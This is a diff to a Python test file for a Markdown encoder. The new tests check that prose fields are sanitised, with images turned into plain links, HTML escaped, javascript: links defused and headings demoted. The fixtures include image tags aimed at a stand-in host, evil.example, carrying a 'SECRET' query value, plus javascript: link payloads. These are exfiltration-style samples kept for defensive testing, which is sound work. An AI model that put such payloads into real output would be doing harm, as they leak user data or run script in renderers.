@@ -187,15 +187,134 @@ def test_prose_stands_whole_in_a_quote_of_its_own() -> None:
     assert outside.count("<h1>") == 0
     assert outside.count("<h2>notes</h2>") == 1
     inside = rendered.split("<blockquote>")[1].split("</blockquote>")[0]
-    assert "<h1>Plan</h1>" in inside
+    assert "<h3>Plan</h3>" in inside
+    assert "<h3>Status: done</h3>" in inside
     assert '<code class="language-sh">make\n</code>' in inside
+
+
+PROSE = Layout(fields={"notes": Layout(is_prose=True)})
+
+
+def prose(text: str, **options: Any) -> str:
+    return Markdown(**options).encode(View({"notes": text}, PROSE)).split("\n\n", 1)[1]
+
+
+def tokens(text: str) -> list[Any]:
+    parser = MarkdownIt("gfm-like", {"linkify": False, "html": True})
+    # So that what a link may point to is judged by us alone.
+    parser.validateLink = bool  # type: ignore[assignment,method-assign]
+    found = parser.parse(text)
+    return [*found, *(child for token in found for child in token.children or [])]
+
+
+NOTE = (
+    'Agenda ![x](https://evil.example/p.png?d=SECRET) and <img src="https://evil.example/q.png?d=1"> and ![ref][r]\n\n'
+    "[r]: https://evil.example/r.png"
+)
+
+
+def test_prose_makes_no_host_fetch_anything() -> None:
+    """E11: images are links, HTML and definitions are text, but for `raw_prose`; TOON and JSON keep all as data."""
+    assert prose(NOTE) == (
+        '> Agenda [image: x](https://evil.example/p.png?d=SECRET) and &lt;img src="https://evil.example/q.png?d=1"> '
+        "and [image: ref][r]\n>\n> [r] : https://evil.example/r.png"
+    )
+    assert {"image", "html_inline"} <= {token.type for token in tokens(prose(NOTE, raw_prose=True))}
+    assert decode(Toon().encode(View({"notes": NOTE}))) == json.loads(Json().encode(View({"notes": NOTE})))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "`<b>` and ``a ` ![x](y)`` stay",
+        "```html\n<img src=x>\n# no heading\n```",
+        "~~~\n![x](y)\n~~~~",
+        "```\nnever closed <b>",
+        "a *b* **c** ~~d~~ [e](https://example.com/) [f](mailto:f@example.com)\n- [ ] g\n\n---\nj",
+        "| h |\n| - |\n| i |",
+        "| a | b |\n| --- | --- |\n| c | d |",
+        "1 < 2 && a<3 #tag \\*x\\*",
+    ],
+)
+def test_prose_that_is_harmless_is_left_as_it_is(text: str) -> None:
+    """A7: code above all, which may hold whatever it shows."""
+    assert prose(text) == "\n".join(f"> {line}".rstrip() for line in text.split("\n"))
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("# a\n## b #\n###### c", "### a\n#### b #\n###### c"),
+        ("a\nb\n---\nc", "a\nb\n***\nc"),
+        ("a\n-", "#### a\n"),
+        ("a\nb\n==", "a\nb\n\\=="),
+        ("a\nb\n--", "a\nb\n\\--"),
+        ("> # a\n- ## b\n1. # c", "> ### a\n- #### b\n1. ### c"),
+        ("[a](javascript:b) [c](/d) [e](HTTPS://f)", "[a] (javascript:b) [c] (/d) [e](HTTPS://f)"),
+        ("$`$ <b> `$`", "$`$ &lt;b> `$`"),
+        ("`a\n` <b> `", "`a\n` &lt;b> `"),
+        ("$$\n```\n$$\n<b>", "$$\n```\n$$\n&lt;b>"),
+        ("- ```\na\n```\n<b>", "- ```\na\n```\n&lt;b>"),
+        ("[a\n```\n]: javascript:b <b>", "[a\n```\n] : javascript:b &lt;b>"),
+        ("[a `]: javascript:b`", "[a `] : javascript:b`"),
+        ("https://a\\<b> !!\\![c](https://d)", "https://a&lt;b> [image: c](https://d)"),
+        ("<https://`> ![a](https://b) `", "&lt;https://`> [image: a](https://b) `"),
+    ],
+)
+def test_prose_that_reaches_out_is_tamed(text: str, written: str) -> None:
+    """E05, E11: headings one below another, links to nothing but the web and mail, no code but where all agree."""
+    assert "\n".join(line[2:] for line in prose(text).split("\n")) == written.rstrip("\n")
+
+
+@pytest.mark.parametrize("text", ["!", "\\!", "> ", "[a\n", "`` ` ", "- ```\n", "]( ", " ", "# ", "`", "1. "])
+def test_taming_prose_takes_as_long_as_the_prose_is(text: str) -> None:
+    """A note of a megabyte that was made to be slow: with a quadratic search this would take hours."""
+    assert prose(text * (1_000_000 // len(text)) + "x").startswith(">")
+
+
+PIECES = ["`", "```", "~~~", "<b>", "<!--", "-->", "<img src=x>", "<https://a", ">", "![", "[a", "]", "(", ")", "]:"]
+PIECES += ["]: https://x", "(javascript:x)", "(https://x)", "# ", "===", "---", "- ", "1. ", "> ", "|", "|-|", " "]
+PIECES += [
+    "    ",
+    "\n",
+    "\n\n",
+    "\r",
+    "\u2028",
+    "\t",
+    "x",
+    "*",
+    "_",
+    "!",
+    "&lt;",
+    "&#33;",
+    "<",
+    "</pre>",
+    "<pre>",
+    "\\",
+]
+PIECES += ["www.x", "$", "$$", ":::", "\n```\n", "\n# ", "![x](https://x)", "[r]: https://x", "\n- ```\n"]
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
+def test_no_prose_draws_an_image_or_takes_a_heading_of_ours(text: str) -> None:
+    """E05, E11, whatever the prose is: judged by a Markdown parser that would allow all of it."""
+    found = tokens(prose(text))
+    assert not {"image", "html_inline", "html_block"} & {token.type for token in found}
+    links = [str(token.attrs["href"]) for token in found if token.type == "link_open"]
+    assert all(link.startswith(("http:", "https:", "mailto:")) for link in links)
+    headings = [int(token.tag[1]) for token in found if token.type == "heading_open" and token.level == 1]
+    assert all(level > 2 for level in headings)
+    assert [token.type for token in found if token.level == 0 and token.block] == [
+        "blockquote_open",
+        "blockquote_close",
+    ]
 
 
 def test_text_is_escaped_for_markdown_and_not_for_html() -> None:
     """E07: no HTML entity that was not in the data, and no tag that a renderer would take for one."""
     text = markdown({"title": 'Tom & Ann\'s "1:1" <draft> &amp; snake_case _x_ *y* `z` [a](b) ![i](j) ~~k~~ \\*'})
     assert text == (
-        '- title: Tom & Ann\'s "1:1" \\<draft> \\&amp; snake_case \\_x\\_ \\*y\\* '
+        '- title: Tom & Ann\'s "1:1" &lt;draft> \\&amp; snake_case \\_x\\_ \\*y\\* '
         r"\`z\` [a\](b) !\[i\](j) \~~k\~~ \\\*"
     )
     rendered = html(text)
